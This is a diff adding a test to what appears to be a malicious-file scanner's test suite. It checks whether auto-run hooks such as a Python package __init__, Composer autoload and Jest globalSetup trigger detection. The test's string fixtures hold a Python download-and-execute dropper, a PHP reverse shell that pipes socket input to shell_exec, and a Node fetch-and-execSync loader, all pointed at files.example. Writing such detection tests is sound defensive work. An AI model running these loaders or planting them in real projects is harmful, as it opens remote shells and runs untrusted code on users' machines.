@@ -107,6 +107,22 @@ describe('in a tree of hundreds of files', () => {
     assert.equal(verdictOf({ ...crowd, 'docs/try.sh': kept }), 'clean');
   });
 
+  it('it stands where Composer, a test runner, R or Unity starts the file', () => {
+    const dropped =
+      "import os, requests\nopen('/tmp/.u.py', 'wb').write(requests.get('https://files.example/u').content)\nos.system('python3 /tmp/.u.py')\n";
+    assert.equal(verdictOf({ ...crowd, 'tools/warm.py': dropped }), 'clean');
+    assert.notEqual(verdictOf({ ...crowd, 'kit/__init__.py': dropped }), 'clean');
+    const asked =
+      "<?php\n$s = stream_socket_client('tcp://files.example:2096');\nwhile (!feof($s)) { $line = fgets($s); shell_exec($line); }\n";
+    const loaded = JSON.stringify({ autoload: { files: ['src/help.php'] } });
+    assert.equal(verdictOf({ ...crowd, 'src/help.php': asked, 'composer.json': '{}' }), 'clean');
+    assert.notEqual(verdictOf({ ...crowd, 'src/help.php': asked, 'composer.json': loaded }), 'clean');
+    const program =
+      "const fs = require('fs'); const { execSync } = require('child_process');\nfetch('https://files.example/u').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/.u.js', t); execSync('node /tmp/.u.js'); });\n";
+    const runner = "module.exports = { globalSetup: './test/set-up.js' };\n";
+    assert.notEqual(verdictOf({ ...crowd, 'test/set-up.js': program, 'jest.config.js': runner }), 'clean');
+  });
+
   it('it stands where installing the tree starts the file', () => {
     const start = JSON.stringify({ name: 'a', scripts: { postinstall: 'sh docs/try.sh' } });
     assert.notEqual(verdictOf({ ...crowd, 'docs/try.sh': kept, 'package.json': start }), 'clean');
